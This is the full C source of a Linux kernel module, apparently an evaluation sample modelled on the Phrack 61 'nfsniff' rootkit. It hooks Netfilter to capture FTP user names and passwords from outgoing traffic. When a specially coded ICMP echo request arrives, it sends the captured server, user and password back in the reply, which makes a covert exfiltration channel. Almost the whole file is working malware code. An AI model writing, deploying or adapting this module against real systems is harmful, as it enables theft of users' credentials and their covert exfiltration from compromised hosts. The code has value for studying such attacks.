// SPDX-License-Identifier: GPL-2.0
/*
 * nfsniff - capture FTP credentials and hand them out to a magic ping.
 *
 * On NF_INET_POST_ROUTING the module watches TCP segments to the FTP control
 * port (ftp_port=, default 21) for the "USER name" and "PASS word" commands.
 * A USER starts a candidate for one server; the PASS that follows to the same
 * server completes it, and the completed pair replaces the last one kept.
 *
 * On NF_INET_PRE_ROUTING it watches for an ICMP echo request whose code is
 * magic_code (default 0x5B) and whose payload has room for the reply.  If a
 * pair is kept, the request is turned into the echo reply in place
 * (addresses and MAC addresses swapped, type ECHOREPLY, payload replaced by
 * the text "SERVER USER PASS", NUL padded, checksums recomputed) and sent
 * straight back out of the device it came in on; the pair is then
 * forgotten.  With no pair kept, the request goes on to the stack, which
 * answers it with an ordinary echo reply.
 *
 * Modelled on the nfsniff sample of the DUSK evaluation (after bioforge's
 * "Hacking the Linux Kernel Network Stack", Phrack 61), written for the
 * Linux 6.1 Netfilter API.  Only init_net is hooked.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/etherdevice.h>
#include <linux/icmp.h>
#include <linux/if_arp.h>
#include <linux/if_ether.h>
#include <linux/init.h>
#include <linux/ip.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/netdevice.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/skbuff.h>
#include <linux/spinlock.h>
#include <linux/string.h>
#include <linux/tcp.h>
#include <net/checksum.h>
#include <net/ip.h>
#include <net/net_namespace.h>

/* Longest user name or password kept, including the terminating NUL. */
#define NFSNIFF_FIELD_LEN	32
/* Reply text: "255.255.255.255 USER PASS" and its NUL always fit. */
#define NFSNIFF_REPLY_LEN	(16 + 2 * NFSNIFF_FIELD_LEN)
/* How much of a segment's payload is searched for commands. */
#define NFSNIFF_SCAN_LEN	256

static ushort ftp_port = 21;
module_param(ftp_port, ushort, 0444);
MODULE_PARM_DESC(ftp_port, "TCP port of the FTP control connection (default: 21)");

static unsigned char magic_code = 0x5B;
module_param(magic_code, byte, 0444);
MODULE_PARM_DESC(magic_code, "ICMP code of the echo request that collects the credentials (default: 0x5B)");

/* One login: the server's address and the NUL-terminated user and password. */
struct nfsniff_creds {
	__be32 server;
	char user[NFSNIFF_FIELD_LEN];
	char pass[NFSNIFF_FIELD_LEN];
};

/*
 * The capture state, shared by both hooks on all CPUs.  POST_ROUTING may run
 * in process context (locally generated traffic), PRE_ROUTING runs in
 * softirq: always take nfsniff_lock with the _bh variants.
 */
static DEFINE_SPINLOCK(nfsniff_lock);
static struct nfsniff_creds nfsniff_pending;	/* USER seen, waiting for PASS */
static bool nfsniff_have_pending;
static struct nfsniff_creds nfsniff_pair;	/* last complete pair */
static bool nfsniff_have_pair;

/*
 * Copy the argument of an FTP command line into @dst (NUL terminated,
 * truncated to fit).  @arg points just past "USER " or "PASS "; the argument
 * ends at CR, LF or @end.
 */
static void nfsniff_copy_arg(char *dst, const char *arg, const char *end)
{
	size_t n = 0;

	while (arg + n < end && arg[n] != '\r' && arg[n] != '\n' &&
	       n < NFSNIFF_FIELD_LEN - 1)
		n++;
	memcpy(dst, arg, n);
	dst[n] = '\0';
}

/*
 * Look at one command line of the control connection to @server.
 * Caller must hold nfsniff_lock.
 */
static void nfsniff_command(__be32 server, const char *line, const char *end)
{
	if (end - line > 5 && !memcmp(line, "USER ", 5)) {
		memset(&nfsniff_pending, 0, sizeof(nfsniff_pending));
		nfsniff_pending.server = server;
		nfsniff_copy_arg(nfsniff_pending.user, line + 5, end);
		nfsniff_have_pending = true;
	} else if (end - line > 5 && !memcmp(line, "PASS ", 5) &&
		   nfsniff_have_pending && nfsniff_pending.server == server) {
		nfsniff_copy_arg(nfsniff_pending.pass, line + 5, end);
		nfsniff_pair = nfsniff_pending;
		nfsniff_have_pair = true;
		nfsniff_have_pending = false;
		pr_debug("captured credentials for %pI4\n", &server);
	}
}

/* POST_ROUTING: collect USER/PASS from segments to the FTP control port. */
static unsigned int nfsniff_watch_out(void *priv, struct sk_buff *skb,
				      const struct nf_hook_state *state)
{
	char _payload[NFSNIFF_SCAN_LEN];
	const struct iphdr *iph;
	const struct tcphdr *th;
	struct tcphdr _th;
	unsigned int off, len;
	const char *data, *line, *end, *nl;

	iph = ip_hdr(skb);
	if (iph->protocol != IPPROTO_TCP || ip_is_fragment(iph))
		return NF_ACCEPT;

	th = skb_header_pointer(skb, ip_hdrlen(skb), sizeof(_th), &_th);
	if (!th || ntohs(th->dest) != ftp_port)
		return NF_ACCEPT;

	off = ip_hdrlen(skb) + th->doff * 4;
	if (off >= skb->len)
		return NF_ACCEPT;
	len = min_t(unsigned int, skb->len - off, sizeof(_payload));
	data = skb_header_pointer(skb, off, len, _payload);
	if (!data)
		return NF_ACCEPT;

	spin_lock_bh(&nfsniff_lock);
	for (line = data, end = data + len; line < end; line = nl + 1) {
		nl = memchr(line, '\n', end - line);
		if (!nl)
			nl = end;
		nfsniff_command(iph->daddr, line, nl);
	}
	spin_unlock_bh(&nfsniff_lock);

	return NF_ACCEPT;
}

/*
 * Is this an echo request with the magic code and room for the reply text?
 * On success *icmp_len is the length of the ICMP message.
 */
static bool nfsniff_is_magic(struct sk_buff *skb, unsigned int *icmp_len)
{
	const struct iphdr *iph = ip_hdr(skb);
	const struct icmphdr *icmph;
	struct icmphdr _icmph;

	if (iph->protocol != IPPROTO_ICMP || ip_is_fragment(iph))
		return false;

	icmph = skb_header_pointer(skb, ip_hdrlen(skb), sizeof(_icmph), &_icmph);
	if (!icmph || icmph->type != ICMP_ECHO || icmph->code != magic_code)
		return false;

	*icmp_len = skb->len - ip_hdrlen(skb);
	return *icmp_len >= sizeof(*icmph) + NFSNIFF_REPLY_LEN;
}

/*
 * Turn the magic echo request in @skb into a reply carrying @creds and put
 * the Ethernet header back in front of it, ready for dev_queue_xmit().
 * Returns 0, or a negative errno with @skb left as it was received.
 */
static int nfsniff_make_reply(struct sk_buff *skb, unsigned int icmp_len,
			      const struct nfsniff_creds *creds)
{
	unsigned char hwaddr[ETH_ALEN];
	struct icmphdr *icmph;
	struct ethhdr *eth;
	struct iphdr *iph;
	__be32 addr;
	char *payload;
	int err;

	/* Only a plain Ethernet header right in front of the IP header. */
	if (skb->dev->type != ARPHRD_ETHER || !skb_mac_header_was_set(skb) ||
	    skb_mac_offset(skb) != -ETH_HLEN)
		return -EPROTONOSUPPORT;

	skb_push(skb, ETH_HLEN);
	err = skb_ensure_writable(skb, skb->len);
	if (err) {
		skb_pull(skb, ETH_HLEN);
		return err;
	}

	eth = eth_hdr(skb);
	ether_addr_copy(hwaddr, eth->h_dest);
	ether_addr_copy(eth->h_dest, eth->h_source);
	ether_addr_copy(eth->h_source, hwaddr);

	iph = ip_hdr(skb);
	addr = iph->saddr;
	iph->saddr = iph->daddr;
	iph->daddr = addr;
	iph->ttl = 64;
	ip_send_check(iph);

	icmph = icmp_hdr(skb);
	icmph->type = ICMP_ECHOREPLY;
	icmph->code = 0;
	payload = (char *)(icmph + 1);
	memset(payload, 0, icmp_len - sizeof(*icmph));
	snprintf(payload, NFSNIFF_REPLY_LEN, "%pI4 %s %s",
		 &creds->server, creds->user, creds->pass);
	icmph->checksum = 0;
	icmph->checksum = ip_compute_csum(icmph, icmp_len);

	skb->ip_summed = CHECKSUM_NONE;
	skb->pkt_type = PACKET_OUTGOING;
	return 0;
}

/* PRE_ROUTING: answer the magic echo request with the captured pair. */
static unsigned int nfsniff_watch_in(void *priv, struct sk_buff *skb,
				     const struct nf_hook_state *state)
{
	struct nfsniff_creds creds;
	unsigned int icmp_len;
	bool have_pair;
	__be32 asker;

	if (!nfsniff_is_magic(skb, &icmp_len))
		return NF_ACCEPT;

	spin_lock_bh(&nfsniff_lock);
	have_pair = nfsniff_have_pair;
	if (have_pair)
		creds = nfsniff_pair;
	spin_unlock_bh(&nfsniff_lock);
	if (!have_pair)
		return NF_ACCEPT;

	if (nfsniff_make_reply(skb, icmp_len, &creds))
		return NF_ACCEPT;

	/* dev_queue_xmit() consumes the skb whatever it returns. */
	asker = ip_hdr(skb)->daddr;
	dev_queue_xmit(skb);

	spin_lock_bh(&nfsniff_lock);
	if (nfsniff_have_pair && !memcmp(&nfsniff_pair, &creds, sizeof(creds))) {
		memset(&nfsniff_pair, 0, sizeof(nfsniff_pair));
		nfsniff_have_pair = false;
	}
	spin_unlock_bh(&nfsniff_lock);
	pr_info("sent credentials for %pI4 to %pI4\n",
		&creds.server, &asker);

	return NF_STOLEN;
}

static struct nf_hook_ops nfsniff_ops[] = {
	{
		.hook     = nfsniff_watch_in,
		.pf       = NFPROTO_IPV4,
		.hooknum  = NF_INET_PRE_ROUTING,
		.priority = NF_IP_PRI_FIRST,
	},
	{
		.hook     = nfsniff_watch_out,
		.pf       = NFPROTO_IPV4,
		.hooknum  = NF_INET_POST_ROUTING,
		.priority = NF_IP_PRI_FIRST,
	},
};

static int __init nfsniff_init(void)
{
	int err;

	err = nf_register_net_hooks(&init_net, nfsniff_ops,
				    ARRAY_SIZE(nfsniff_ops));
	if (err) {
		pr_err("cannot register the hooks: %d\n", err);
		return err;
	}
	pr_info("watching TCP port %u, magic ICMP code 0x%02x\n",
		ftp_port, magic_code);
	return 0;
}

static void __exit nfsniff_exit(void)
{
	nf_unregister_net_hooks(&init_net, nfsniff_ops, ARRAY_SIZE(nfsniff_ops));
	pr_info("unloaded\n");
}

module_init(nfsniff_init);
module_exit(nfsniff_exit);

MODULE_LICENSE("GPL");
MODULE_AUTHOR("DUSK developers");
MODULE_DESCRIPTION("FTP credential sniffer that answers a magic ICMP echo request");
